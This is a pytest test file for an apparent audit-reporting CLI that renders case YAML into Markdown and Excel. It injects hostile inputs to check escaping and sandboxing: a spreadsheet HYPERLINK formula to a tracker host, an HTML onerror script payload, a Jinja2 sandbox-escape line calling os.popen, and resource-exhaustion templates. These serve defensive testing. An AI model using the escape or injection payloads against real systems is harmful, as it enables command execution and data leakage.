"""Reports: golden Markdown, the workbook opened back, hostile text, templates, output safety."""

from __future__ import annotations

import re
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest
from markdown_it import MarkdownIt
from typer.testing import CliRunner

from conftest import REPO
from fatheraudit.cli import app

AUDIT = REPO / "examples" / "audit-2023"
GOLDEN = Path(__file__).resolve().parent / "golden"


@pytest.fixture
def audit_copy(tmp_path: Path) -> Path:
    """A copy of the example audit to write into and spoil."""
    target = tmp_path / "audit"
    shutil.copytree(AUDIT, target)
    return target


@pytest.mark.parametrize(
    ("command", "golden"), [("report", "audit-report.md"), ("summary", "meeting-summary.md")]
)
def test_markdown_matches_the_approved_golden_file(
    runner: CliRunner, command: str, golden: str
) -> None:
    result = runner.invoke(app, [command, str(AUDIT), "-o", "-"])
    assert result.exit_code == 0, result.stderr
    assert result.stdout == (GOLDEN / golden).read_text(encoding="utf-8")


def test_report_numbers_its_own_recommendations() -> None:
    text = (GOLDEN / "audit-report.md").read_text()
    recommendations = text.split("## 8. Recommendations", 1)[1].split("\n## ", 1)[0]
    assert re.findall(r"\*\*(8\.\d)\*\*", recommendations) == ["8.1", "8.2", "8.3", "8.4"]


def test_report_figures_show_numerator_and_denominator() -> None:
    text = (GOLDEN / "audit-report.md").read_text()
    assert "| Parental mental ill health | 5 of 10 |" in text
    assert "Six of the ten cases were discussed at the meeting." in text
    assert "Yes 6 of 10 (60%); Partly 3 of 10 (30%); No 1 of 10 (10%)" in text


def test_reports_are_written_to_the_audit_reports_folder(
    runner: CliRunner, audit_copy: Path
) -> None:
    for command, name in (("report", "audit-report"), ("summary", "meeting-summary")):
        for fmt in ("md", "xlsx"):
            result = runner.invoke(app, [command, str(audit_copy), "--format", fmt])
            assert result.exit_code == 0, result.stderr
            path = audit_copy / "reports" / f"{name}.{fmt}"
            assert path.is_file() and path.stat().st_mode & 0o077 == 0


def open_workbook(runner: CliRunner, folder: Path, command: str = "report") -> openpyxl.Workbook:
    target = folder / "out.xlsx"
    result = runner.invoke(app, [command, str(folder), "--format", "xlsx", "-o", str(target)])
    assert result.exit_code == 0, result.stderr
    with zipfile.ZipFile(target) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert "<f>" not in archive.read(name).decode(), f"a formula in {name}"
    return openpyxl.load_workbook(target)


def test_workbook_sheets_cells_panes_and_charts(runner: CliRunner, audit_copy: Path) -> None:
    book = open_workbook(runner, audit_copy)
    assert book.sheetnames == [
        "Summary",
        "Cases",
        "Answers",
        "Evidence",
        "Themes",
        "Themes chart",
        "Learning",
        "Actions",
    ]
    summary = book["Summary"]
    facts = {
        summary.cell(row=r, column=1).value: summary.cell(row=r, column=2).value
        for r in range(2, 17)
    }
    assert facts["Cases"] == 10 and facts["Children"] == 11
    assert facts["Ages"] == "6 months to 15 years"
    assert facts["Discussed at the meeting"] == "6 of 10"
    assert len(summary._charts) == 1 and len(book["Themes chart"]._charts) == 1
    cases = book["Cases"]
    assert cases.freeze_panes == "A2" and cases.auto_filter.ref.startswith("A1:")
    assert [cases.cell(row=r, column=1).value for r in range(2, 12)] == [
        f"C{n:02d}" for n in range(1, 11)
    ]
    answers = book["Answers"]
    assert answers.freeze_panes == "C2", "question and its text stay in view"
    assert [answers.cell(row=1, column=c).value for c in range(1, 5)] == [
        "Question",
        "Text",
        "C01",
        "C02",
    ]
    assert answers["A2"].value == "A1" and answers["B2"].value.startswith(
        "Were all the significant men"
    )
    assert answers["C2"].value == "partly" and answers["C2"].fill.fgColor.rgb.endswith("FFEB9C")
    assert answers["C3"].value == "yes" and answers["C3"].fill.fgColor.rgb.endswith("C6EFCE")
    actions = book["Actions"]
    lists = {v.formula1: str(v.sqref) for v in actions.data_validations.dataValidation}
    assert lists['"not started,in progress,done,blocked"'].startswith("G2:")
    assert lists['"red,amber,green"'].startswith("H2:")
    assert actions["E2"].value.date().isoformat() == "2023-07-31"
    assert actions["F2"].value == "2023-07-31"
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"


def test_summary_workbook_leaves_out_case_detail(runner: CliRunner, audit_copy: Path) -> None:
    book = open_workbook(runner, audit_copy, "summary")
    assert book.sheetnames == ["Meeting summary"]
    values = {str(c.value) for row in book.active.iter_rows() for c in row if c.value}
    assert not any(value.startswith(("C01:", "A1 ")) for value in values), "no evidence notes"


# Written inside a YAML double-quoted string: \" is a quote, \x07 a bell, \uFFFE a non-character.
HOSTILE = (
    '=HYPERLINK(\\"http://tracker.example/?c=C01\\",\\"click\\") | not seen by SW\\n'
    "# FAKE HEADING\\n---\\n<img src=x onerror=alert(1)> ![](https://tracker.example/b.png)"
    " \\x07\\x1b\\uFFFE {{ 7*7 }} "
)


def quoted(extra: str = "") -> str:
    return f'"{HOSTILE}{extra}"'


def spoil(folder: Path, long_text: str) -> None:
    """Hostile text in an evidence note, a strength, the narrative and an action."""
    case = folder / "cases" / "C01.yaml"
    text = case.read_text()
    text = re.sub(
        r"(\n  A1:\n    answer: partly\n    evidence: )[^\n]*",
        lambda m: m.group(1) + quoted(),
        text,
    )
    text = re.sub(r"\nstrengths: [^\n]*", lambda _: "\nstrengths: " + quoted(long_text), text)
    case.write_text(text)
    meta = folder / "audit.yaml"
    meta.write_text(
        meta.read_text().replace(
            "  - Engaging fathers takes", f"  - {quoted()}\n  - Engaging fathers takes", 1
        )
    )
    actions = folder / "actions.yaml"
    text = re.sub(
        r"\n    action: Write and circulate[^\n]*",
        lambda _: "\n    action: " + quoted(),
        actions.read_text(),
    )
    actions.write_text(text)


def test_hostile_text_goes_through_every_output(runner: CliRunner, audit_copy: Path) -> None:
    spoil(audit_copy, "x" * 100_000)
    assert runner.invoke(app, ["validate", str(audit_copy)]).exit_code == 0
    for args in (["score", "--format", "json"], ["score", "--format", "csv"], ["score"]):
        result = runner.invoke(app, [*args, str(audit_copy / "cases")])
        assert result.exit_code == 0, result.stderr
    markdown = MarkdownIt("commonmark").enable("table")
    for command in ("report", "summary"):
        result = runner.invoke(app, [command, str(audit_copy), "-o", "-"])
        assert result.exit_code == 0, result.stderr
        text = result.stdout
        assert "\x07" not in text and "\x1b" not in text and "\ufffe" not in text
        assert "{{ 7\\*7 }}" in text, "data is shown, never evaluated as a template"
        tokens = markdown.parse(text)
        headings = [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]
        assert not any("FAKE" in h for h in headings)
        assert not any(t.type == "html_inline" or t.type == "html_block" for t in tokens)
        inline = [child for t in tokens if t.children for child in t.children]
        assert not any(child.type in {"image", "link_open"} for child in inline)
        rendered = markdown.render(text)
        assert "not seen by SW" in rendered
        for table in re.findall(r"<table>.*?</table>", rendered, flags=re.S):
            widths = {
                len(re.findall(r"<t[hd]", row))
                for row in re.findall(r"<tr>.*?</tr>", table, flags=re.S)
            }
            assert len(widths) == 1, "a row with a different number of cells"
    result = runner.invoke(
        app, ["report", str(audit_copy), "--format", "xlsx", "-o", str(audit_copy / "r.xlsx")]
    )
    assert result.exit_code == 0
    assert "R801" in result.stderr and "cut to Excel's limit" in result.stderr
    book = openpyxl.load_workbook(audit_copy / "r.xlsx")
    evidence = book["Evidence"]
    note = next(
        row[3].value
        for row in evidence.iter_rows(min_row=2)
        if row[0].value == "C01" and row[1].value == "A1"
    )
    assert note.startswith("=HYPERLINK") and "\x07" not in note and "\ufffe" not in note
    cell = next(
        row[3]
        for row in evidence.iter_rows(min_row=2)
        if row[0].value == "C01" and row[1].value == "A1"
    )
    assert cell.data_type == "s" and cell.quotePrefix
    learning = book["Learning"]
    strengths = next(
        row[2].value
        for row in learning.iter_rows(min_row=2)
        if row[0].value == "C01" and row[1].value == "strengths"
    )
    assert len(strengths) == 32_767
    assert strengths.endswith("[cut at Excel's limit: full text in cases/C01.yaml, strengths]")


def test_invalid_case_refuses_unless_skip_invalid(runner: CliRunner, audit_copy: Path) -> None:
    case = audit_copy / "cases" / "C02.yaml"
    case.write_text(
        case.read_text().replace(
            "intervention_level: care-proceedings", "intervention_level: nonsense"
        )
    )
    refused = runner.invoke(app, ["report", str(audit_copy), "-o", "-"])
    assert refused.exit_code == 1 and refused.stdout == ""
    assert "C02.yaml:" in refused.stderr and "--skip-invalid" in refused.stderr
    assert not (audit_copy / "reports").exists()
    skipped = runner.invoke(app, ["report", str(audit_copy), "-o", "-", "--skip-invalid"])
    assert skipped.exit_code == 1
    assert "**Left out of the figures:** 1 form(s)" in skipped.stdout
    assert "Nine cases involving" in skipped.stdout


def test_audit_yaml_errors_are_located(runner: CliRunner, audit_copy: Path) -> None:
    meta = audit_copy / "audit.yaml"
    text = meta.read_text().replace(
        "agencies_attending: [childrens-social-care,", "agencies_attending: [childrens-socal-care,"
    )
    meta.write_text(text)
    line = next(n for n, row in enumerate(text.splitlines(), 1) if "childrens-socal-care" in row)
    result = runner.invoke(app, ["validate", str(audit_copy)])
    assert result.exit_code == 1
    assert (
        f"audit.yaml:{line}:" in result.stdout
        and "did you mean 'childrens-social-care'" in result.stdout
    )


def test_output_is_never_written_over_inputs_or_into_cases(
    runner: CliRunner, audit_copy: Path
) -> None:
    before = {p: p.read_bytes() for p in audit_copy.rglob("*") if p.is_file()}
    for target in ("cases/C01.yaml", "audit.yaml", "cases/report.md", "report.yml"):
        result = runner.invoke(
            app, ["report", str(audit_copy), "-o", str(audit_copy / target), "--force"]
        )
        assert result.exit_code == 2, target
    assert {p: p.read_bytes() for p in audit_copy.rglob("*") if p.is_file()} == before


def test_existing_report_needs_force(runner: CliRunner, audit_copy: Path) -> None:
    target = audit_copy / "out.md"
    target.write_text("the chair's own notes\n")
    result = runner.invoke(app, ["report", str(audit_copy), "-o", str(target)])
    assert result.exit_code == 2 and target.read_text() == "the chair's own notes\n"
    assert (
        runner.invoke(app, ["report", str(audit_copy), "-o", str(target), "--force"]).exit_code == 0
    )
    assert target.read_text().startswith("# Engaging fathers")


def test_user_templates_override_the_bundled_ones(runner: CliRunner, tmp_path: Path) -> None:
    (tmp_path / "summary.md.j2").write_text(
        "Cases: {{ cohort.cases }}; first learning: {{ meta.learning[0] | md }}\n"
    )
    result = runner.invoke(app, ["summary", str(AUDIT), "-o", "-", "--templates", str(tmp_path)])
    assert result.exit_code == 0
    first = "Engaging fathers takes the same skills as engaging mothers."
    assert result.stdout == f"Cases: 10; first learning: {first}\n"
    report = runner.invoke(app, ["report", str(AUDIT), "-o", "-", "--templates", str(tmp_path)])
    assert report.stdout == (GOLDEN / "audit-report.md").read_text()


def test_templates_run_in_a_sandbox(runner: CliRunner, tmp_path: Path) -> None:
    (tmp_path / "summary.md.j2").write_text(
        "{{ cycler.__init__.__globals__.os.popen('echo PWNED').read() }}\n"
    )
    result = runner.invoke(app, ["summary", str(AUDIT), "-o", "-", "--templates", str(tmp_path)])
    assert result.exit_code == 2
    assert "PWNED" not in result.stdout and "template" in result.stderr


def test_template_errors_name_file_and_line(runner: CliRunner, tmp_path: Path) -> None:
    (tmp_path / "summary.md.j2").write_text("line one\n{{ cohort.cases }\n")
    result = runner.invoke(app, ["summary", str(AUDIT), "-o", "-", "--templates", str(tmp_path)])
    assert result.exit_code == 2 and "summary.md.j2:2" in result.stderr
    (tmp_path / "summary.md.j2").write_text("one\ntwo\n{{ no_such_name }}\n")
    result = runner.invoke(app, ["summary", str(AUDIT), "-o", "-", "--templates", str(tmp_path)])
    assert (
        result.exit_code == 2
        and "summary.md.j2:3" in result.stderr
        and "no_such_name" in result.stderr
    )


def test_symlinked_template_is_refused(runner: CliRunner, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP SECRET\n")
    folder = tmp_path / "templates"
    folder.mkdir()
    (folder / "summary.md.j2").symlink_to(secret)
    result = runner.invoke(app, ["summary", str(AUDIT), "-o", "-", "--templates", str(folder)])
    assert "TOP SECRET" not in result.stdout + result.stderr
    assert result.exit_code == 2 and result.stdout == ""
    assert "summary.md.j2 is a symlink; a template must be a file in the folder" in result.stderr


HOSTILE_TEMPLATES = {
    "nested loop": (
        "one\n{% for a in range(100000) %}\n"
        "{% for b in range(100000) %}{{ a ~ 'x' * 1000 }}{% endfor %}\n"
        "{% endfor %}\n",
        "summary.md.j2:3: wrote more than 10,000,000 characters and was stopped",
    ),
    "slow loop": (
        "one\ntwo\n{% for a in range(100000) %}{% for b in range(100000) %}\n"
        "{% endfor %}{% endfor %}\n",
        "summary.md.j2:3: took longer than 1.5 s and was stopped",
    ),
    "huge range": (
        "one\n{% for a in range(10**9) %}x{% endfor %}\n",
        "summary.md.j2:2: Range too big",
    ),
    "huge string": ("one\n{{ 'x' * 10**10 }}\n", "summary.md.j2:2: repeating makes 10,000,000,000"),
    "huge power": ("{{ 10 ** 100000000 }}\n", "summary.md.j2:1: a power above 1,000"),
    "huge padding": (
        "one\ntwo\n{{ ('x' * 9000000) | center(2000000000) }}\n",
        "summary.md.j2:3: needed more than 512 MB and was stopped",
    ),
}


@pytest.mark.parametrize("name", HOSTILE_TEMPLATES)
def test_a_hostile_template_is_stopped_and_located(
    runner: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    from fatheraudit.render import limits

    monkeypatch.setattr(limits, "SECONDS", 1.5)
    text, expected = HOSTILE_TEMPLATES[name]
    folder = tmp_path / "templates"
    folder.mkdir()
    (folder / "summary.md.j2").write_text(text)
    target = tmp_path / "summary.md"
    args = ["summary", str(AUDIT), "-o", str(target), "--templates", str(folder)]
    result = runner.invoke(app, args)
    assert result.exit_code in (1, 2), result.stderr
    assert expected in result.stderr
    assert not target.exists() and list(tmp_path.iterdir()) == [folder]


def band_words(runner: CliRunner, audit: Path) -> dict[str, bool]:
    """Whether each output of the audit names a band ('Strong', 'Adequate'...)."""
    bands = {"Strong", "Adequate", "Needs work"}  # the bundled tool's bands
    found = {}
    for name, args in {
        "score": ["score", str(audit / "cases")],
        "score json": ["score", str(audit / "cases"), "--format", "json"],
        "report": ["report", str(audit), "-o", "-"],
        "summary": ["summary", str(audit), "-o", "-"],
    }.items():
        text = runner.invoke(app, args).stdout
        found[name] = "Bands:" in text or '"band": "' in text
    book_path = audit / "book.xlsx"
    book_path.unlink(missing_ok=True)
    runner.invoke(app, ["report", str(audit), "--format", "xlsx", "-o", str(book_path)])
    cells = {
        v
        for sheet in openpyxl.load_workbook(book_path)
        for row in sheet.iter_rows(values_only=True)
        for v in row
    }
    found["workbook"] = "Band" in cells or bool(cells & bands)
    return found


def test_no_output_shows_bands_when_the_audit_did_not_use_grading(
    runner: CliRunner, audit_copy: Path
) -> None:
    meta = audit_copy / "audit.yaml"
    assert "grading_used: no\n" in meta.read_text()
    assert not any(band_words(runner, audit_copy).values())
    meta.write_text(meta.read_text().replace("grading_used: no\n", "grading_used: yes\n"))
    shown = band_words(runner, audit_copy)
    assert shown["score"] and shown["score json"] and shown["report"] and shown["workbook"]
